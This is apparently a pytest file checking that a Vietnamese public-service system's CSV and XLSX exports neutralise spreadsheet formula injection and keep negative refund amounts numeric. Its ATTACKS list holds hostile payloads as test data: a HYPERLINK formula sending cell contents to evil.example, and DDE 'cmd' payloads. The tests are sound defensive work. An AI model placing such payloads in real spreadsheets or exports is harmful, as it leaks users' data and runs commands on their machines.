"""Formula injection into exports (issue 19's last row, CWE-1236): whatever text a
citizen, an officer or an imported catalog puts into a cell, a spreadsheet opening
our CSV or XLSX shows it and never runs it; real numbers, negative ones included,
stay numbers.
"""

import csv
import io
import json
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from central.accounts import users
from central.documents import sheets
from central.dossiers import fees, reception
from motcua import clock

from . import stats_dataset
from .dossier_helpers import APPLICANT, CHECKLIST, add_procedures
from .signing import login
from .test_fees import at

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_in_text_is_neutralised_in_csv(text):
    cell = sheets.csv_cell(text)
    assert cell == "'" + text
    row = next(csv.reader(io.StringIO(sheets.csv_bytes([["x", text]]).decode("utf-8-sig")),
                          delimiter=";"))
    assert row[1].startswith("'")


def test_numbers_stay_numbers_negative_ones_too():
    assert sheets.csv_cell(-75000) == "-75000"
    assert sheets.csv_cell(-3.5, 1) == "-3,5"
    assert sheets.csv_cell(83.333) == "83,33"
    assert sheets.csv_cell("Sở Tư pháp") == "Sở Tư pháp"
    assert sheets.csv_cell("-") == "'-"  # text, even a lone sign
    ws = Workbook().active
    assert sheets.put(ws, 1, 1, -75000).data_type == "n"
    assert sheets.put(ws, 1, 2, -0.5, 2).data_type == "n"
    assert sheets.put(ws, 1, 3, "=1+1").data_type == "s"


def formulas_in(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, read from the raw XML."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [name for name in z.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)]


def test_an_imported_procedure_named_as_a_formula_does_not_run_in_biểu_06(
        client, store, hub_config, monkeypatch):
    stats_dataset.build(store, hub_config)
    with store.write() as db:
        db.execute("update procedures set name = ? where code = '1.001193'", [ATTACKS[0]])
        db.execute("update departments set name = ? where code = 'SXD'", [ATTACKS[3]])
    monkeypatch.setattr(clock, "now", lambda: stats_dataset.NOW)
    login(client, "thanh.tra", "supervisor", store)
    query = "start=2026-04-01&end=2026-04-30&by=procedure"
    text = client.get(f"/statistics/report.csv?{query}").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    label = next(r[1] for r in rows if "HYPERLINK" in r[1])
    assert label.startswith("'") or not label.lstrip("'").startswith("=")
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r
                   if not c.lstrip("-").replace(",", "").isdigit())
    by_dep = client.get("/statistics/report.csv?start=2026-04-01&end=2026-04-30").data
    assert ";'@SUM(1+1)" in by_dep.decode("utf-8-sig")
    for q in (query, "start=2026-04-01&end=2026-04-30"):
        data = client.get(f"/statistics/report.xlsx?{q}").data
        assert formulas_in(data) == []
        cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
        attack = [c for c in cells if isinstance(c.value, str) and "SUM(1+1)" in c.value
                  or isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert attack and all(c.data_type == "s" for c in attack)


def test_a_fee_note_typed_as_a_formula_does_not_run_and_refunds_stay_negative(
        store, hub_config):
    ids = add_procedures(store)
    users.create_user(store, "lan.nt", "Nguyễn Thị Lan", "officer", "mat-khau-dai-du")
    d = reception.receive(
        store, hub_config, procedure_id=ids["1.009994"], channel="in_person",
        applicant=APPLICANT, components=[c["name"] for c in CHECKLIST], actor="lan.nt",
        now=at(8))["id"]
    paid = fees.record(store, d, {"kind": "payment", "item": "Lệ phí", "amount": 75000,
                                  "method": "cash", "receipt_no": "0000101"},
                       officer="lan.nt", now=at(8, 5))
    fees.record(store, d, {"kind": "refund", "refund_of": paid["id"], "amount": 75000,
                           "method": "cash", "receipt_no": "HT-1", "note": ATTACKS[0]},
                officer="lan.nt", now=at(9))
    data = fees.report_xlsx(fees.report(store.db, "2026-11-27"), "Trung tâm")
    assert formulas_in(data) == []
    sheet = load_workbook(io.BytesIO(data))["Biên lai"]
    top = next(r[0].row for r in sheet.iter_rows() if r[0].value == "Ngày")  # the table
    values = [[c for c in row] for row in sheet.iter_rows(min_row=top + 1)
              if isinstance(row[10].value, int)]
    notes = [row[11] for row in values]
    assert any(c.value == ATTACKS[0] and c.data_type == "s" for c in notes)
    amounts = sorted(row[10].value for row in values)
    assert amounts == [-75000, 75000]  # the refund is a negative number, not text
    assert all(row[10].data_type == "n" for row in values)
    json.dumps([c.value for c in notes])  # plain values, nothing evaluated
